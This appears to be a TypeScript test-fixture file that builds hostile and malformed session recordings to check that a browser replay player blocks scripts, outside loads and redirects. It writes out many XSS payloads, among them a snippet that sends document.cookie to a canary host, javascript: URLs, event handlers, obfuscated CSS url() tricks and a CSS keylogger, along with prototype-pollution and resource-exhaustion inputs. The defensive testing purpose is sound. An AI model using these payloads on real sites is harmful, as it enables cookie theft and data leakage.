// Recordings that somebody made up to run, load, read, lead away or hang. Each is played in a real browser.
import {
  add,
  element,
  idOf,
  type Json,
  lines,
  mutation,
  page,
  START,
  snapshot,
  step,
  svg,
  text,
} from './recording.ts'

export type Hostile = {
  name: string
  lines: string[]
  /** A page without our protection would load something: the control must notice it. */
  loads?: boolean
  /** The player says that it could not show some of it. */
  leavesOut?: boolean
  /** What the player says is wrong. */
  problem?: string
}

const shows = (
  name: string,
  inBody: Json[],
  more: Partial<Hostile> & { head?: Json[]; body?: Json } = {},
): Hostile => {
  const { head = [], body, ...rest } = more
  return { name, lines: lines(snapshot(page(head, inBody, body))), loads: true, ...rest }
}

/** Of code that runs, of which the canary hears. */
const code = (canary: string) =>
  `top.pwned=1;window.pwned=1;parent.pwned=1;new Image().src='${canary}/ran?'+encodeURIComponent(document.cookie)`

const runs = (canary: string): Hostile[] => [
  shows('scripts, written out and by address', [
    element('script', {}, text(code(canary))),
    element('script', { src: `${canary}/script.js` }),
    element('script', { type: 'module', src: `${canary}/module.mjs` }),
    element('SCRIPT', { src: `${canary}/upper.js` }),
    element('noscript', {}, element('img', { src: `${canary}/noscript.png` })),
  ]),
  shows(
    'handlers in attributes',
    [
      element('img', { src: `${canary}/none.png`, onerror: code(canary), onload: code(canary) }),
      element('img', { src: 'data:image/png;base64,x', ONERROR: code(canary) }),
      element('details', { open: '', ontoggle: code(canary) }, element('summary')),
      element('input', { autofocus: '', onfocus: code(canary) }),
      element('video', { onloadstart: code(canary), src: 'data:video/mp4,x', autoplay: '' }),
      element('style', { onload: code(canary), _cssText: 'a{}' }),
      element('div', {
        style: 'animation: a 1ms',
        onanimationstart: code(canary),
        onanimationend: code(canary),
      }),
      element('marquee', { onstart: code(canary) }, text('m')),
      svg(
        'svg',
        { onload: code(canary) },
        svg('animate', { onbegin: code(canary), attributeName: 'x', dur: '1s' }),
      ),
    ],
    { body: { onload: code(canary), onpageshow: code(canary), onfocus: code(canary) } },
  ),
  shows('addresses that are code', [
    element('a', { href: `javascript:${code(canary)}` }, text('link')),
    element('iframe', { src: `javascript:${code(canary)}` }),
    element('iframe', { src: ` \tjava\nscript:${code(canary)}` }),
    element(
      'form',
      { action: `javascript:${code(canary)}` },
      element('button', { formaction: `javascript:${code(canary)}` }),
    ),
    element('object', { data: `javascript:${code(canary)}` }),
    element('embed', { src: `javascript:${code(canary)}` }),
    svg(
      'svg',
      {},
      svg('a', { 'xlink:href': `javascript:${code(canary)}`, href: `javascript:${code(canary)}` }),
    ),
    element('math', {}, element('mtext', { href: `javascript:${code(canary)}` })),
  ]),
  shows('documents in attributes and in frames', [
    element('iframe', { srcdoc: `<script>${code(canary)}</script><img src="${canary}/srcdoc.png">` }),
    element('iframe', {
      src: `${canary}/frame.html`,
      sandbox: 'allow-scripts allow-same-origin allow-top-navigation',
    }),
    element('iframe', { src: `data:text/html,<script>${code(canary)}</script>` }),
    element('iframe', { name: '_top', allow: 'camera *', src: `${canary}/named.html` }),
    element('object', { data: `${canary}/object.html`, type: 'text/html' }),
    element('embed', { src: `${canary}/embed.svg`, type: 'image/svg+xml' }),
    element('applet', { code: 'X', codebase: canary }),
    element('portal', { src: `${canary}/portal.html` }),
    element('fencedframe', { src: `${canary}/fenced.html` }),
    element('frameset', {}, element('frame', { src: `${canary}/frameset.html` })),
    element('frame', { src: `${canary}/lone-frame.html` }),
    element('webview', { src: `${canary}/webview.html` }),
  ]),
  shows('scripts and animations of SVG', [
    svg(
      'svg',
      { xmlns: 'http://www.w3.org/2000/svg' },
      svg('script', {}, text(code(canary))),
      svg('script', { href: `${canary}/svg.js` }),
      svg('SCRIPT', { 'xlink:href': `${canary}/svg-upper.js` }),
      svg('image', { href: `${canary}/image.png`, width: '10', height: '10' }),
      svg('image', { 'xlink:href': `${canary}/xlink.png`, width: '10', height: '10' }),
      svg('use', { href: `${canary}/use.svg#a` }),
      svg('filter', { id: 'f' }, svg('feImage', { href: `${canary}/fe.png` })),
      svg('rect', {
        fill: `url(${canary}/fill.svg#a)`,
        filter: 'url(#f)',
        width: '9',
        height: '9',
        cursor: `url(${canary}/cursor.png), auto`,
      }),
      svg('rect', {
        style: `mask: url(${canary}/mask.svg#m)`,
        'clip-path': `u\\72l(${canary}/clip.svg#c)`,
        width: '9',
        height: '9',
      }),
      svg(
        'a',
        {},
        svg('animate', {
          attributeName: 'href',
          values: `javascript:${code(canary)}`,
          dur: '1ms',
          fill: 'freeze',
        }),
      ),
      svg(
        'image',
        { width: '9', height: '9' },
        svg('set', { attributeName: 'href', to: `${canary}/set.png` }),
      ),
      svg(
        'image',
        { width: '9', height: '9' },
        svg('animate', {
          attributeName: 'xlink:href',
          from: `${canary}/from.png`,
          to: `${canary}/to.png`,
          dur: '1ms',
        }),
      ),
      svg(
        'rect',
        { width: '9', height: '9' },
        svg('set', { attributeName: 'fill', to: `url(${canary}/animated.svg#a)` }),
      ),
      svg(
        'foreignObject',
        { width: '99', height: '99' },
        element('img', { src: `${canary}/foreign.png` }),
        element('script', {}, text(code(canary))),
      ),
      svg('style', {}, text(`rect{fill:url(${canary}/svg-style.svg#a)}`)),
    ),
  ]),
]

const css = (canary: string): Hostile[] => {
  const sheets = [
    `body{background:url(${canary}/a.png)}`,
    `body{background:url("${canary}/b.png")}`,
    `body{background:U\\52 L('${canary}/c.png')}`,
    `body{background:u\\72l(${canary}/d.png)}`,
    `body{background:\\75\\72\\6c(${canary}/e.png)}`,
    `@import "${canary}/f.css";`,
    `@import url(${canary}/g.css) screen;`,
    `@\\69mport '${canary}/h.css';`,
    `<!--@import "${canary}/i.css";-->`,
    `@font-face{font-family:x;src:url(${canary}/j.woff2)}body{font-family:x}`,
    `body{background:image-set("${canary}/k.png" 1x)}`,
    `body{background:-webkit-image-set(url(${canary}/l.png) 1x)}`,
    `body{background:cross-fade(url(${canary}/m.png),url(${canary}/n.png))}`,
    `body{--x:url(${canary}/o.png);background:var(--x)}`,
    `body{--x:"${canary}/p.png";background:image-set(var(--x) 1x)}`,
    `a{b:url(c'd)}body{background:u\\72l(${canary}/q.png)}/*'*/`,
    `a{b:#url( x ' )}body{background:url(${canary}/r.png)}/*'*/`,
    `a{content:"\\"}body{background:url(${canary}/s.png)}"}`,
    `a{content:"x\r\n}body{background:url(${canary}/t.png)}`,
    `a{content:"x\\\r\n"}body{background:url(${canary}/u.png)}/*"*/`,
    `body{background:url(/**/${canary}/v.png)}`,
    `body{cursor:url(${canary}/w.cur),auto;list-style-image:url(${canary}/x.png)}`,
    `body::before{content:url(${canary}/y.png)}`,
    `body{-moz-binding:url(${canary}/z.xml#z);behavior:url(${canary}/z.htc);width:expression(alert(1))}`,
    `@namespace url(${canary}/ns);@document url(${canary}/){body{color:red}}`,
    `@media all{@supports (color:red){@layer a{body{background:url(${canary}/nested.png)}}}}`,
    `body{background:url( "${canary}/space.png" )}`,
    `body{background:url(${canary}/unclosed.png`,
    `body{filter:url(${canary}/filter.svg#f);mask:url(${canary}/m.svg#m);shape-outside:url(${canary}/shape.png)}`,
    `@property --p{syntax:"<url>";inherits:true;initial-value:url(${canary}/property.png)}body{background:var(--p)}`,
  ]
  const letters = [...'abcdefghijklmnopqrstuvwxyz0123456789']
  const reading = letters.map((l) => `input[value^="${l}"]{background:url(${canary}/read?${l})}`).join('')
  const inStyle = text(`body{background:ur`)
  const split = element('style', {}, inStyle, text(`l(${canary}/split.png)}`))
  const sheetPage = page([element('style', { id: 's', _cssText: 'a{}' })], [element('p', {}, text('p'))])
  const style = (sheetPage.head['childNodes'] as Json[])[0] ?? {}
  return [
    ...sheets.map((sheet, index) => ({
      ...shows(`a style sheet (${index})`, [element('a', {}, text('x'))], {
        head: [element('style', { _cssText: sheet })],
      }),
      loads: false,
    })),
    shows('style sheets, all of them', [element('p', {}, text('x'))], {
      head: sheets.map((sheet) => element('style', {}, text(sheet, { isStyle: true }))),
    }),
    shows('addresses in style attributes', [
      element('div', { style: `background:url(${canary}/attribute.png)` }, text('x')),
      element('div', { style: `background:u\\72 l(${canary}/escaped.png)` }, text('x')),
      element('table', { background: `${canary}/background.png` }),
    ]),
    shows('a sheet that reads what was entered', [element('input', { value: 'secret' })], {
      head: [element('style', { _cssText: reading })],
    }),
    shows('an address in two pieces of a sheet', [element('p', {}, text('x'))], { head: [split] }),
    {
      name: 'sheets changed by scripts',
      lines: lines([
        ...snapshot(sheetPage),
        step({
          source: 8,
          id: idOf(style),
          adds: [{ rule: `body{background:url(${canary}/insert.png)}`, index: 0 }],
        }),
        step({ source: 8, id: idOf(style), adds: [{ rule: `@import "${canary}/insert.css";`, index: 0 }] }),
        step({
          source: 13,
          id: idOf(style),
          index: [0],
          set: { property: 'background', value: `url(${canary}/declare.png)` },
        }),
        step({ source: 8, id: idOf(style), replaceSync: `body{background:url(${canary}/replace.png)}` }),
        step({
          source: 15,
          id: idOf(sheetPage.document),
          styles: [
            { styleId: 1, rules: [{ rule: `body{background:url(${canary}/adopted.png)}`, index: 0 }] },
          ],
          styleIds: [1],
        }),
        step({
          source: 8,
          styleId: 1,
          adds: [{ rule: `p{background:u\\72l(${canary}/adopted-later.png)}` }],
        }),
        step({ source: 8, styleId: 1, replace: `p{background:url(${canary}/adopted-replaced.png)}` }),
        mutation({
          attributes: [
            {
              id: idOf(sheetPage.body),
              attributes: {
                style: {
                  background: `url(${canary}/property.png)`,
                  'list-style': [`url(${canary}/list.png)`, 'important'],
                },
              },
            },
            { id: idOf(style), attributes: { _cssText: `body{background:url(${canary}/restyled.png)}` } },
          ],
        }),
      ]),
    },
  ]
}

const loading = (canary: string): Hostile[] => [
  shows('links of every kind', [element('p', {}, text('x'))], {
    head: [
      ...[
        'stylesheet',
        'preload',
        'prefetch',
        'dns-prefetch',
        'preconnect',
        'modulepreload',
        'icon',
        'manifest',
        'prerender',
        'alternate stylesheet',
        'apple-touch-icon',
        'search',
        'import',
        'compression-dictionary',
      ].map((rel) =>
        element('link', { rel, href: `${canary}/${rel.replace(' ', '-')}`, as: 'image', crossorigin: '' }),
      ),
      element('LINK', { REL: 'stylesheet', HREF: `${canary}/upper.css` }),
    ],
  }),
  shows('pictures, films and sounds', [
    element('img', { src: `${canary}/img.png` }),
    element('img', { SRC: `${canary}/upper.png` }),
    element('img', { srcset: `${canary}/set1.png 1x, ${canary}/set2.png 2x` }),
    element('img', { src: `${canary}/lazy.png`, loading: 'lazy' }),
    element('img', { rr_dataURL: `${canary}/data-url.png` }),
    element(
      'picture',
      {},
      element('source', { srcset: `${canary}/source.webp`, type: 'image/webp' }),
      element('img', { alt: '' }),
    ),
    element('video', {
      src: `${canary}/film.mp4`,
      autoplay: '',
      poster: `${canary}/poster.png`,
      preload: 'auto',
      rr_mediaState: 'played',
    }),
    element(
      'video',
      { preload: 'auto' },
      element('source', { src: `${canary}/film.webm` }),
      element('track', { src: `${canary}/track.vtt`, default: '' }),
    ),
    element('audio', { src: `${canary}/sound.mp3`, autoplay: '', preload: 'auto' }),
    element('input', { type: 'image', src: `${canary}/input.png` }),
    element('canvas', { rr_dataURL: `${canary}/canvas.png` }),
    element('body', { background: `${canary}/body.png` }),
  ]),
  shows(
    'a base, and what is relative to it',
    [element('img', { src: 'relative.png' }), element('a', { href: 'x', ping: `${canary}/ping` }, text('a'))],
    {
      head: [element('base', { href: `${canary}/`, target: '_top' })],
    },
  ),
  shows('documents that lead away', [element('p', {}, text('x'))], {
    head: [
      element('meta', { 'http-equiv': 'refresh', content: `0;url=${canary}/refresh` }),
      element('meta', { 'HTTP-EQUIV': 'Refresh', content: `0;url=javascript:${code(canary)}` }),
      element('meta', { 'http-equiv': 'set-cookie', content: 'a=b' }),
      element('meta', {
        'http-equiv': 'content-security-policy',
        content: `default-src *; report-uri ${canary}/report`,
      }),
      element('meta', { name: 'referrer', content: 'unsafe-url' }),
    ],
  }),
  shows(
    'forms that want to be sent',
    [
      element(
        'form',
        { action: `${canary}/form`, method: 'post', target: '_top', id: 'f' },
        element('input', { autofocus: '', name: 'a', value: 'b' }),
        element('button', { autofocus: '', formaction: `${canary}/button` }),
      ),
      element(
        'a',
        { href: `${canary}/link`, target: '_top', ping: `${canary}/ping`, download: 'x', autofocus: '' },
        text('link'),
      ),
    ],
    { loads: false },
  ),
  shows('shadow trees, templates and own elements', [
    {
      ...element(
        'x-evil',
        { is: 'x-evil', onclick: code(canary) },
        { ...element('img', { src: `${canary}/shadow.png` }), isShadow: true },
        { ...element('style', { _cssText: `:host{background:url(${canary}/host.png)}` }), isShadow: true },
      ),
      isShadowHost: true,
      isCustom: true,
    },
    element(
      'template',
      { shadowrootmode: 'open' },
      element('img', { src: `${canary}/template.png` }),
      element('script', {}, text(code(canary))),
    ),
    { ...element('img', { src: `${canary}/not-a-host.png` }), isShadowHost: true },
    element('slot', { onslotchange: code(canary) }, text('x')),
  ]),
  later(canary),
  drawings(canary),
]

/** All that was refused at first is tried again as a change. */
const later = (canary: string): Hostile => {
  const image = element('img', { alt: '' })
  const frame = element('iframe', {})
  const link = element('link', {})
  const use = svg('use', {})
  const base = element('base', {})
  const meta = element('meta', {})
  const paragraph = element('p', {}, text('x'))
  const start = page([link, base, meta], [image, frame, svg('svg', {}, use), paragraph])
  const set = (node: Json, attributes: Json): Json => ({ id: node['id'], attributes })
  const inner = page(
    [element('base', { href: canary })],
    [
      element('img', { src: `${canary}/inner.png` }),
      element('script', {}, text(code(canary))),
      element('a', { href: `javascript:${code(canary)}`, target: '_top' }),
    ],
  )
  return {
    name: 'the same by changes of the page',
    loads: true,
    lines: lines([
      ...snapshot(start),
      mutation({
        attributes: [
          set(image, {
            src: `${canary}/changed.png`,
            srcset: `${canary}/changed-set.png`,
            onerror: code(canary),
          }),
          set(frame, {
            src: `${canary}/changed.html`,
            srcdoc: `<script>${code(canary)}</script>`,
            sandbox: 'allow-scripts',
            allow: '*',
          }),
          set(frame, { sandbox: null }),
          set(link, { rel: 'stylesheet', href: `${canary}/changed.css` }),
          set(base, { href: canary }),
          set(meta, { 'http-equiv': 'refresh', content: `0;url=${canary}/changed` }),
          set(use, { href: `${canary}/changed.svg#a`, 'xlink:href': `${canary}/changed-x.svg#a` }),
          set(paragraph, {
            style: `background:url(${canary}/changed-style.png)`,
            onclick: code(canary),
            contenteditable: 'true',
          }),
        ],
        adds: [
          add(start.body, element('script', { src: `${canary}/added.js` }, text(code(canary)))),
          add(start.body, element('img', { src: `${canary}/added.png`, onload: code(canary) })),
          add(start.body, element('object', { data: `${canary}/added.html` })),
          add(start.head, element('style', { _cssText: `p{background:url(${canary}/added-style.png)}` })),
          { ...add(frame, inner.document), isAttachIframe: true },
        ],
      }),
      {
        ...mutation({
          adds: [{ parentId: frame['id'], nextId: null, node: inner.document }],
          isAttachIframe: true,
        }),
      },
    ]),
  }
}

const drawings = (canary: string): Hostile => {
  const canvas = element('canvas', { width: '100', height: '100' })
  const film = element('video', {})
  const start = page([], [canvas, film])
  return {
    name: 'drawings, fonts and media that name an address',
    lines: lines([
      ...snapshot(start),
      step({
        source: 9,
        id: idOf(canvas),
        type: 0,
        commands: [
          { property: 'drawImage', args: [{ rr_type: 'HTMLImageElement', src: `${canary}/draw.png` }, 0, 0] },
        ],
      }),
      step({ source: 9, id: idOf(canvas), type: 0, property: 'constructor', args: [code(canary)] }),
      step({
        source: 9,
        id: idOf(canvas),
        type: 0,
        commands: [
          {
            property: 'drawImage',
            args: [
              {
                rr_type: 'ImageBitmap',
                args: [
                  {
                    rr_type: 'Blob',
                    type: 'image/svg+xml',
                    data: [{ rr_type: 'ArrayBuffer', base64: 'PHN2Zy8+' }],
                  },
                ],
              },
              0,
              0,
            ],
          },
        ],
      }),
      step({
        source: 9,
        id: idOf(canvas),
        type: 1,
        commands: [{ property: '__proto__', args: [1], setter: true }],
      }),
      step({
        source: 10,
        family: 'evil',
        fontSource: `url(${canary}/font.woff2)`,
        buffer: false,
        descriptors: {},
      }),
      step({
        source: 10,
        family: 'evil2',
        fontSource: `url(data:font/woff2,x), url(${canary}/font2.woff2)`,
        buffer: false,
      }),
      step({ source: 7, id: idOf(film), type: 0, currentTime: 1e308, volume: 99, playbackRate: -5 }),
    ]),
  }
}

export const loadingCorpus = (canary: string): Hostile[] => [
  ...runs(canary),
  ...css(canary),
  ...loading(canary),
]

const nested = (levels: number): string => {
  const open = Array.from(
    { length: levels },
    (_, at) => `{"type":2,"id":${at + 100},"tagName":"div","attributes":{},"childNodes":[`,
  )
  return `${open.join('')}${']}'.repeat(levels)}`
}

const head = JSON.stringify({ v: 1, tabId: 'x', format: 'rrweb-2', snapshot: [] })

/** Lines written by hand, where JSON of ours could not say it. */
const written = (body: string): string[] => [
  head,
  `{"seq":0,"shiftMs":0,"events":[{"type":4,"timestamp":${START},"data":{"href":"","width":800,"height":500}},{"type":2,"timestamp":${START},"data":{"node":{"type":0,"id":1,"childNodes":[{"type":2,"id":2,"tagName":"html","attributes":{},"childNodes":[{"type":2,"id":3,"tagName":"body","attributes":{},"childNodes":[${body}]}]}]},"initialOffset":{"top":0,"left":0}}}]}`,
]

/** Recordings that are wrong, or too much. */
export const malformedCorpus = (): Hostile[] => {
  const start = page([], [element('p', {}, text('here'))])
  const first = (start.body['childNodes'] as Json[])[0] ?? {}
  const big = 'x'.repeat(10_000_000)
  const wide = Array.from({ length: 400_000 }, (_, at) => ({ type: 3, id: at + 1_000, textContent: '.' }))
  const moves = Array.from({ length: 60_000 }, (_, at) => ({
    parentId: start.body['id'],
    nextId: null,
    node: { type: 3, id: 5_000_000 + (at % 50), textContent: 'm' },
  }))
  const waits = Array.from({ length: 50_000 }, (_, at) => ({
    parentId: 7_000_000 + at + 1,
    nextId: null,
    node: { type: 2, id: 7_000_000 + at, tagName: 'b', attributes: {}, childNodes: [] },
  }))
  const frames = Array.from({ length: 60 }, (_, at) => {
    const inner = {
      type: 0,
      id: 20_001 + at * 10,
      childNodes: [
        {
          type: 2,
          id: 20_002 + at * 10,
          tagName: 'html',
          attributes: {},
          childNodes: [{ type: 2, id: 20_003 + at * 10, tagName: 'iframe', attributes: {}, childNodes: [] }],
        },
      ],
    }
    return mutation({
      adds: [{ parentId: at === 0 ? 20_000 : 20_003 + (at - 1) * 10, nextId: null, node: inner }],
      isAttachIframe: true,
    })
  })
  const withFrame = page([], [{ ...element('iframe'), id: 20_000 }])
  return [
    {
      name: 'keys that reach for the prototype',
      lines: written(
        '{"type":2,"id":4,"tagName":"p","__proto__":{"pwned":1},"attributes":{"__proto__":{"pwned":1},"constructor":"x","prototype":"y","toString":"z","hasOwnProperty":"q"},"childNodes":[]},{"type":2,"id":"__proto__","tagName":"constructor","attributes":{"a":1},"childNodes":{"length":1e9}}',
      ),
    },
    { name: 'a deep tree', leavesOut: true, lines: written(nested(20_000)) },
    {
      name: 'a wide tree',
      leavesOut: true,
      lines: lines(
        snapshot({
          document: {
            type: 0,
            id: 1,
            childNodes: [
              {
                type: 2,
                id: 2,
                tagName: 'html',
                attributes: {},
                childNodes: [{ type: 2, id: 3, tagName: 'body', attributes: {}, childNodes: wide }],
              },
            ],
          },
        }),
      ),
    },
    {
      name: 'ten million characters, everywhere',
      lines: lines([
        ...snapshot(
          page(
            [element('style', { _cssText: `a{content:"${big}"}` })],
            [element('p', { title: big, style: `--x:${big}`, class: 'a' }, text(big))],
          ),
        ),
        step({ source: 5, id: idOf(first), text: big, isChecked: 'x' }),
      ]),
    },
    {
      name: 'thousands of attributes',
      lines: lines(
        snapshot(
          page(
            [],
            [element('p', Object.fromEntries(Array.from({ length: 50_000 }, (_, at) => [`a${at}`, 'x'])))],
          ),
        ),
      ),
    },
    {
      name: 'ids and parents that cannot be',
      leavesOut: true,
      lines: lines([
        ...snapshot(start),
        mutation({
          removes: [
            { id: idOf(start.document), parentId: 0 },
            { id: idOf(start.html), parentId: 99 },
            { id: 'x', parentId: null },
            null,
            7,
          ],
          adds: [
            add(start.body, start.body),
            add(first, start.html),
            add({ id: 990 }, { ...element('b'), id: 991 }),
            add({ id: 991 }, { ...element('b'), id: 990 }),
            add(start.body, { ...element('i'), id: -1 }),
            add(start.body, { ...element('i'), id: 1.5 }),
            add(start.body, { ...element('i'), id: '12' }),
            add(start.body, { ...element('i'), id: 1e300 }),
            add(start.body, { ...element('two words'), id: 992 }),
            add(start.body, { ...element(''), id: 993 }),
            add(start.body, { type: 0, id: 994, childNodes: [] }),
            add(start.document, element('html')),
            add(start.document, text('in a document')),
            add(start.body, 'text'),
            add(start.body, null),
            add(start.body, element('b'), 123_456),
            add(start.body, element('b'), -1),
            add(start.body, element('b'), 'x'),
          ],
          texts: [{ id: idOf(first), value: 'text of an element' }, { id: null, value: {} }, 3],
          attributes: [
            { id: idOf(start.document), attributes: { a: 'b' } },
            {
              id: idOf(first),
              attributes: { '': 'x', 'a b': 'x', '<': 'x', 'x"y': 'x', a: {}, b: [], style: 5 },
            },
            { id: idOf(first), attributes: null },
            {},
          ],
        }),
        mutation({ adds: 'x', removes: { length: 5 }, texts: 5, attributes: null }),
      ]),
    },
    {
      name: 'times and numbers that are none',
      leavesOut: true,
      lines: [
        head,
        `{"seq":0,"shiftMs":0,"events":[${JSON.stringify(snapshot(start)).slice(1, -1)},{"type":3,"timestamp":null,"data":{}},{"type":3,"timestamp":"NaN","data":{"source":0}},{"type":3,"timestamp":1e999,"data":{"source":3}},{"type":"3","timestamp":5,"data":{}},{"type":3,"timestamp":-1e300,"data":{"source":3,"id":${idOf(start.document)},"x":1e308,"y":-1e308}},null,5,[],"x",{"type":3,"timestamp":${START + 5}},{"type":99,"timestamp":${START + 6},"data":{}}]}`,
        'not json',
        '{"seq":0,"events":{"length":9}}',
        '[]',
        'null',
        JSON.stringify({
          events: [
            step({ source: 4, width: 1e9, height: 1e9 }),
            step({ source: 4, width: -5, height: 0 }),
            step({ source: 4, width: 'x', height: {} }),
            step({ source: 3, id: idOf(start.document), x: 1e308, y: 'y' }),
            step({
              source: 1,
              positions: [{ x: 1e308, y: -1e308, id: 5, timeOffset: -1e308 }, { x: null }, 4, null],
            }),
            step({ source: 1, positions: 'x' }),
            step({ source: 2, type: 2, id: 1e99, x: {}, y: [] }),
            step({
              source: 14,
              ranges: [{ start: idOf(first), startOffset: 1e9, end: idOf(first), endOffset: -4 }, null],
            }),
            step({
              source: 8,
              id: idOf(first),
              adds: [{ rule: '}{', index: [1, 'x', -5, 1e9] }],
              removes: [{ index: 'x' }],
            }),
            step({
              source: 15,
              id: idOf(first),
              styles: [null, { styleId: 'x' }, { styleId: 5, rules: 'x' }],
              styleIds: [5, 6, 'x', null],
            }),
            step({ source: 13, styleId: 5, index: ['x'], set: 5 }),
            step({ source: 99 }),
            step({}),
          ],
        }),
      ],
    },
    { name: 'nodes that move without end', lines: lines([...snapshot(start), mutation({ adds: moves })]) },
    {
      name: 'nodes that wait for one another',
      leavesOut: true,
      lines: lines([...snapshot(start), mutation({ adds: waits })]),
    },
    {
      name: 'frames in frames in frames',
      lines: lines([...snapshot(withFrame), ...frames]),
    },
    {
      name: 'a document that is none',
      leavesOut: true,
      lines: lines([
        { type: 4, timestamp: START, data: null },
        { type: 2, timestamp: START, data: { node: element('p') } },
        { type: 2, timestamp: START, data: { node: 5 } },
        { type: 2, timestamp: START, data: 'x' },
      ]),
    },
    { name: 'a head that is none', problem: 'segment-unreadable', lines: ['{"v":1}', '{}'] },
    {
      name: 'another recorder',
      problem: 'segment-unreadable',
      lines: [JSON.stringify({ v: 1, tabId: 'x', format: 'other-1', snapshot: [] }), '{"events":[]}'],
    },
  ]
}
